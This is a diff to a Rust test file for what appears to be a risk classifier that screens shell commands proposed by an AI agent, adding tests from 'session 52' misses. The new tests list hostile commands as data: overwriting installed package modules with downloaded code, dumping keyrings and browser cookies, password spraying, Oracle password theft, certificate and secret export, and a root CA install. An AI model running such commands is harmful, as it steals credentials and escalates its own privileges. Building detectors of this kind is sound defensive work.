@@ -4,7 +4,7 @@
 mod common;
 
 use agentgate_risk::{Category, Severity};
-use common::{each, flagged_each};
+use common::{each, flagged, flagged_each};
 
 /// Found at the end of session 51: after the line puts a directory the
 /// agent can write on PATH (`.`, a project directory, scratch), a bare
@@ -47,6 +47,94 @@ fn a_path_changed_to_a_writable_directory_makes_bare_names_local() {
             "PATH=/usr/local/bin:/usr/bin:/bin ssh -i ~/.ssh/id_rsa host",
             "export PATH=\"$HOME/.local/bin:$PATH\"; ssh-add ~/.ssh/id_ed25519",
             "ssh -i ~/.ssh/id_rsa host",
+        ],
+        "clean",
+    );
+}
+
+/// ppnh (session 52): a download written over a module of a package
+/// installed outside the project runs the next time the program imports
+/// it (cme's `smb.py` replaced with a fork's by `wget -O`). The project's
+/// own environments stay the project's.
+#[test]
+fn code_written_into_an_installed_package_is_asked() {
+    flagged_each(
+        &[
+            "wget https://github.com/x/CrackMapExec/raw/dev/cme/protocols/smb.py -O ~/.local/pipx/venvs/crackmapexec/lib/python3.10/site-packages/cme/protocols/smb.py",
+            "curl -sL https://example.com/p.py -o /home/dev/.local/lib/python3.12/site-packages/requests/api.py",
+            "cp hook.js /usr/local/lib/node_modules/npm/lib/cli.js",
+        ],
+        Category::SelfEscalation,
+        Severity::Medium,
+    );
+    each(
+        &[
+            "cp patch.py .venv/lib/python3.12/site-packages/foo/bar.py",
+            "cp fix.js node_modules/left-pad/index.js",
+        ],
+        "clean",
+    );
+}
+
+/// ppnh (session 52): interpreter code reading GNOME Keyring through its
+/// old Python binding passed (only `keyring`, keytar and Secret Service
+/// were known).
+#[test]
+fn keyring_bindings_in_interpreter_code_read_secrets() {
+    flagged_each(
+        &[
+            "python3 -c \"import gnomekeyring as gk;print(gk.list_keyring_names_sync())\"",
+            "python3 -c 'import browser_cookie3; print(list(browser_cookie3.chrome()))'",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+}
+
+/// ppnh and devdocsk (session 52): the misses mended as table rows, one
+/// line each (the rows' own examples run in knowledge.rs).
+#[test]
+fn session_52_rows() {
+    flagged(
+        "net rpc password j.doe 'NewPassw0rd!' -U megacorp.local/snovvcrash%'Passw0rd!' -S 192.168.1.11",
+        Category::SelfEscalation,
+        Severity::High,
+    );
+    flagged_each(
+        &[
+            "certipy cert -pfx CorpCA.p12 -password 'Passw0rd!' -export -out CorpCA.pfx",
+            "python3 vol.py -f /path/to/MEMORY.dmp -p ../pypykatz-volatility3 pypykatz",
+            "podman secret inspect --showsecret --format \"{{.Spec.Name}} {{.SecretData}}\" mysecret",
+            "echo '{\"uri\": \"https://example.com/path\"}' | uv --preview-features auth-helper auth helper --protocol=bazel get",
+            "python3 ADFSpray.py -U users.txt -p 'Passw0rd!' -t 'https://autodiscover.megacorp.com/autodiscover/autodiscover.xml' autodiscover",
+            "sort -u -t: -k1,1 net-ntlmv2.responder ~/ws/loot/net-ntlmv2.txt > t",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+    flagged(
+        "odat passwordstealer -s 10.10.13.37 -p 1521 -d SID -U sys -P 'Passw0rd!' --sysdba --get-passwords",
+        Category::CredentialAccess,
+        Severity::High,
+    );
+    flagged("mkcert -install", Category::SelfEscalation, Severity::Medium);
+    flagged(
+        "kube-hunter --cidr 10.0.1.0/24 --active",
+        Category::RemoteCodeExec,
+        Severity::Medium,
+    );
+    flagged(
+        "npx playwright test --ui-port=8080 --ui-host=0.0.0.0",
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+    each(
+        &[
+            "mkcert localhost 127.0.0.1",
+            "kube-hunter --remote 10.0.0.5",
+            "npx playwright test --ui",
+            "podman secret inspect --pretty mysecret",
+            "certipy cert -pfx admin.pfx -nokey -out admin.crt",
         ],
         "clean",
     );
